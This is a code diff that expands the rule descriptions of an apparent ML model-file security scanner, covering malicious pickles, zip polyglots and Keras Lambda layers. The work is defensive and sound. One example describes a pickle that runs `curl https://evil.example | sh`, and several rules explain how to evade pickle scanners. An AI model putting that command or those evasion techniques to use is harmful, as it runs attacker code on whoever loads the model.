@@ -13,9 +13,27 @@ DANGEROUS_CALL_IN_PICKLE = BOOK.rule(
     "Pickle reaches a known-dangerous callable",
     cwe=502,
     what=(
-        "Loading this file imports or calls a global that runs commands, evaluates code, imports modules,"
-        " reads or writes files, opens connections or loads another pickle. Never load it; rebuild the "
-        "model from trusted code and save it as safetensors or another format without code."
+        "A pickle in the file imports or calls a global that runs commands, evaluates code, imports "
+        "modules, reads or writes files, opens connections or loads another pickle (os.system, "
+        "builtins.exec, subprocess, runpy, pip's main, ...)."
+    ),
+    why=(
+        "Loading the file (pickle.load, torch.load, joblib.load, numpy with allow_pickle, "
+        "pandas.read_pickle) calls it with the arguments stored in the file: the payload runs on the "
+        "machine of whoever loads the model, with their credentials."
+    ),
+    example=(
+        "A checkpoint whose data.pkl contains `GLOBAL 'posix system'` followed by `REDUCE` on the string "
+        "`curl https://evil.example | sh`."
+    ),
+    fix=(
+        "Do not load the file. Rebuild the model from trusted code and weights and save it in a format "
+        "without code (safetensors, ONNX); find out where the file came from. `mlsec explain FILE` shows "
+        "what it would do."
+    ),
+    references=(
+        "https://docs.python.org/3/library/pickle.html",
+        "https://huggingface.co/docs/hub/security-pickle",
     ),
 )
 GLOBAL_OUTSIDE_ALLOWLIST = BOOK.rule(
@@ -25,9 +43,21 @@ GLOBAL_OUTSIDE_ALLOWLIST = BOOK.rule(
     "Pickle imports a global outside the allowlist",
     cwe=502,
     what=(
-        "Only exact (module, name) pairs that real ML files use are allowed. If the global is your own "
-        "class, add it to `artifacts.allow_globals` in the policy file with a reason."
+        "A pickle imports a global that is not an exact (module, name) pair of the allowlist of "
+        "framework classes that real ML files use."
     ),
+    why=(
+        "Any importable callable can be reached through a pickle, so a global nobody vetted may run code "
+        "on load; denylists of dangerous names are bypassed again and again, so anything not known to be "
+        "safe is reported."
+    ),
+    example="A scikit-learn pipeline pickled with your own transformer class `mypkg.features.Scaler`.",
+    fix=(
+        "If the global is your own class and has no custom `__reduce__`/`__setstate__` that reaches "
+        "files, processes or the network, add it to `artifacts.allow_globals` in `.mlsec.yaml` with a "
+        "reason; otherwise treat the file as untrusted."
+    ),
+    references=("https://docs.python.org/3/library/pickle.html#restricting-globals",),
 )
 OBFUSCATED_IMPORT = BOOK.rule(
     "MLS103",
@@ -36,10 +66,21 @@ OBFUSCATED_IMPORT = BOOK.rule(
     "Obfuscated import in a pickle",
     cwe=502,
     what=(
-        "The global's name is computed at load time (STACK_GLOBAL on non-literal operands), taken from "
-        "copyreg's extension registry (EXT1/2/4), or a dotted path that walks attributes out of an "
-        "allowed module. Real serializers do not do this."
+        "A global whose name is computed at load time (STACK_GLOBAL on non-literal operands), taken from "
+        "copyreg's extension registry (EXT1/2/4), or a dotted name that walks attributes out of an "
+        "allowed module."
     ),
+    why=(
+        "Real serialisers write literal module and class names. Computed, registry-based or dotted names "
+        "exist to hide the callable from scanners that read names literally (several CVEs against "
+        "picklescan-style scanners used exactly this)."
+    ),
+    example=(
+        "A STACK_GLOBAL whose module name is assembled from memo entries, or an EXT2 code that copyreg "
+        "maps to a callable."
+    ),
+    fix="Do not load the file; treat it as hostile and find out where it came from.",
+    references=("https://docs.python.org/3/library/pickle.html",),
 )
 SPECIAL_ATTRIBUTE_INJECTION = BOOK.rule(
     "MLS104",
@@ -47,10 +88,15 @@ SPECIAL_ATTRIBUTE_INJECTION = BOOK.rule(
     "critical",
     "Pickle BUILD injects a special attribute",
     cwe=502,
-    what=(
-        "A BUILD opcode sets `__setstate__`, `__reduce__` or another special attribute on an object, so a"
-        " later BUILD or use calls attacker-chosen code (the Sleepy Pickle pattern)."
+    what="A BUILD opcode sets `__setstate__`, `__reduce__` or another special attribute on an object.",
+    why=(
+        "The injected attribute makes a later BUILD, or ordinary use of the object after loading, call "
+        "attacker-chosen code: the payload runs at a time when nobody is looking (the Sleepy Pickle "
+        "pattern)."
     ),
+    example="BUILD on an allowed class with the state `{'__setstate__': <callable>}`.",
+    fix="Do not load the file; rebuild the model from trusted code.",
+    references=("https://blog.trailofbits.com/2024/06/11/exploiting-ml-models-with-pickle-file-attacks-part-1/",),
 )
 DATA_AFTER_PICKLE = BOOK.rule(
     "MLS105",
@@ -58,10 +104,18 @@ DATA_AFTER_PICKLE = BOOK.rule(
     "high",
     "Data after the pickle stream",
     cwe=506,
-    what=(
-        "Bytes follow the pickle's STOP opcode: a second pickle stream that loaders reading in a loop "
-        "execute, or hidden data that scanners stopping at the first STOP never see."
+    what="Bytes follow the pickle's STOP opcode.",
+    why=(
+        "Loaders that read several streams (torch's legacy format reads several pickles in a row; custom "
+        "readers loop over pickle.load) execute a second stream there, while scanners that stop at the "
+        "first STOP never see it; trailing data is also where payloads are staged."
     ),
+    example="A valid model pickle followed by a second stream that calls os.system.",
+    fix=(
+        "Re-save the model from a trusted process so the file holds exactly one stream; if the trailing "
+        "data is expected (a custom container), approve the file by hash in `artifacts.approved`."
+    ),
+    references=("https://docs.python.org/3/library/pickle.html",),
 )
 PICKLE_ZIP_POLYGLOT = BOOK.rule(
     "MLS106",
@@ -69,10 +123,14 @@ PICKLE_ZIP_POLYGLOT = BOOK.rule(
     "critical",
     "Polyglot pickle and zip file",
     cwe=434,
-    what=(
-        "The file is a pickle at offset 0 and a zip archive at its end: torch.load and pickle run the "
-        "pickle while zip-based scanners inspect the archive."
+    what="The file is a pickle at offset 0 and a zip archive at its end.",
+    why=(
+        "pickle.load and torch.load's legacy path run the pickle at the start, while zip-based scanners "
+        "inspect only the archive: each tool sees a different file."
     ),
+    example="A `.pt` file made by prepending a malicious pickle to a clean torch zip checkpoint.",
+    fix="Do not load the file; re-export the model from trusted code.",
+    references=("https://pkware.cachefly.net/webdocs/casestudies/APPNOTE.TXT",),
 )
 ZIP_STRUCTURE_ANOMALY = BOOK.rule(
     "MLS107",
@@ -81,9 +139,19 @@ ZIP_STRUCTURE_ANOMALY = BOOK.rule(
     "Zip structure anomaly",
     cwe=434,
     what=(
-        "Local and central directory names differ, a name is duplicated, a CRC does not match or a member"
-        " is flagged encrypted. Model loaders tolerate these; scanners that trust zipfile are bypassed."
+        "Zip structure anomalies: local and central directory names differ, a name is duplicated, a CRC "
+        "does not match, or a member is flagged encrypted."
     ),
+    why=(
+        "Model loaders tolerate these (torch's zip reader does not check CRCs), so a scanner that trusts "
+        "Python's zipfile can inspect different bytes than the loader runs."
+    ),
+    example=(
+        "A torch checkpoint whose central directory lists a clean `archive/data.pkl` while its local "
+        "header holds another."
+    ),
+    fix=("Re-save the model with the framework's own writer (torch.save, numpy.savez) from a trusted process."),
+    references=("https://pkware.cachefly.net/webdocs/casestudies/APPNOTE.TXT",),
 )
 KERAS_LAMBDA_LAYER = BOOK.rule(
     "MLS108",
@@ -91,9 +159,19 @@ KERAS_LAMBDA_LAYER = BOOK.rule(
     "high",
     "Keras Lambda layer",
     cwe=502,
-    what=(
-        "A Lambda layer stores marshalled Python bytecode that runs when the model is loaded with "
-        "safe_mode=False or from HDF5. Replace it with a registered custom layer."
+    what="A Keras model file contains a Lambda layer.",
+    why=(
+        "The layer stores marshalled Python bytecode, which runs when the model is loaded with "
+        "safe_mode=False or from the legacy HDF5 format (CVE-2024-3660)."
+    ),
+    example='model.keras whose config.json has `"class_name": "Lambda"` with a base64 `function` field.',
+    fix=(
+        "Replace the Lambda layer with a registered custom layer and re-save; load files from outside "
+        "only with safe_mode=True."
+    ),
+    references=(
+        "https://keras.io/api/layers/core_layers/lambda/",
+        "https://nvd.nist.gov/vuln/detail/CVE-2024-3660",
     ),
 )
 KERAS_CUSTOM_OBJECT = BOOK.rule(
@@ -102,10 +180,17 @@ KERAS_CUSTOM_OBJECT = BOOK.rule(
     "medium",
     "Keras custom object",
     cwe=829,
-    what=(
-        "The model refers to a class outside Keras; loading it imports that module and runs its code. "
-        "Make sure the module is yours and reviewed."
+    what="A Keras model refers to a class outside Keras (a custom object).",
+    why=(
+        "Loading the model imports that module and runs its code; whoever controls the module, or names "
+        "a module that happens to be installed, chooses what runs."
     ),
+    example='config.json naming `"module": "mypkg.layers", "class_name": "Attention"`.',
+    fix=(
+        "Make sure the module is yours and reviewed; register the class explicitly (custom_objects / "
+        "register_keras_serializable) rather than relying on import by name."
+    ),
+    references=("https://keras.io/guides/serialization_and_saving/",),
 )
 APPROVED_ARTIFACT_CHANGED = BOOK.rule(
     "MLS110",
@@ -113,10 +198,13 @@ APPROVED_ARTIFACT_CHANGED = BOOK.rule(
     "medium",
     "Approved artifact changed",
     cwe=494,
-    what=(
-        "The file is listed under `artifacts.approved`, but its sha256 no longer matches the reviewed "
-        "one. Review the new file and update the approval."
+    what="A file listed under `artifacts.approved` no longer has the reviewed sha256.",
+    why=(
+        "The approval covered specific bytes; any change (a retrain, or a tampered file) needs a new "
+        "review before it is trusted again."
     ),
+    example="models/legacy.pkl was approved with one sha256 and has since been overwritten.",
+    fix="Review the new file (`mlsec explain`), then update its sha256 and reason in `.mlsec.yaml`.",
 )
 MODEL_WITHOUT_GATE_RECORD = BOOK.rule(
     "MLS111",
@@ -140,9 +228,16 @@ ARTIFACT_UNPARSEABLE = BOOK.rule(
     "Artifact could not be parsed",
     cwe=20,
     what=(
-        "The file is a model format (by its bytes or its name) but is corrupt, truncated, uses an unknown"
-        " opcode or an unsupported compression. It is reported rather than passed (fail closed); broken "
-        "pickles still run every opcode before the break when loaded."
+        "A file in a model format (by its bytes or its name) that is corrupt, truncated, uses an unknown "
+        "opcode or an unsupported compression."
+    ),
+    why=(
+        "A file that cannot be fully analysed may hide anything; loaders still run every opcode before "
+        "the break, so it is reported rather than passed (fail closed)."
+    ),
+    fix=(
+        "Re-export the file from the framework that wrote it; if it is not a model, rename it or exclude "
+        "its path in `.mlsec.yaml`."
     ),
 )
 UNKNOWN_ARTIFACT_FORMAT = BOOK.rule(
@@ -152,8 +247,16 @@ UNKNOWN_ARTIFACT_FORMAT = BOOK.rule(
     "Named like an artifact, in no known format",
     cwe=20,
     what=(
-        "The file name says model artifact (.pkl, .pt, .bin, .npy, ...) but its content is no format the "
-        "hook recognises, so it cannot be shown safe."
+        "The file is named like a model artifact (.pkl, .pt, .bin, .npy, ...) but its content is in no "
+        "format the hook recognises."
+    ),
+    why=(
+        "A loader may still read it (pickle.load reads from byte 0 whatever the name), and the hook "
+        "cannot show it safe."
+    ),
+    fix=(
+        "Rename files that are not models, or exclude their paths in `.mlsec.yaml`; re-save real models "
+        "with their framework."
     ),
 )
 ANALYSIS_LIMIT = BOOK.rule(
@@ -163,8 +266,15 @@ ANALYSIS_LIMIT = BOOK.rule(
     "Artifact analysis limit reached",
     cwe=400,
     what=(
-        "Size, decompression ratio, nesting depth, opcode count or time budget was exceeded. Raise the "
-        "limits in the `artifacts` policy section if the file is legitimate."
+        "A size, decompression ratio, nesting depth, opcode count or time limit was reached while analysing the file."
+    ),
+    why=(
+        "Limits keep a hostile file from exhausting time or memory; what lies past the limit was not "
+        "analysed, so the file is not passed."
+    ),
+    fix=(
+        "If the file is legitimate, raise `artifacts.max_seconds`, `artifacts.max_decompressed_mb` or "
+        "`artifacts.max_depth` in `.mlsec.yaml`."
     ),
 )
 ARCHIVE_NOT_INSPECTABLE = BOOK.rule(
@@ -173,5 +283,7 @@ ARCHIVE_NOT_INSPECTABLE = BOOK.rule(
     "medium",
     "Archive cannot be inspected here",
     cwe=20,
-    what="A 7z archive needs the optional reader: `pip install mlsec-hooks[7z]`.",
+    what="A 7z archive, which needs the optional reader to be inspected.",
+    why="Its members cannot be read without the reader, so what they hold is unknown.",
+    fix=("Install the reader (`pip install mlsec-hooks[7z]`, or add py7zr to the hook's `additional_dependencies`)."),
 )
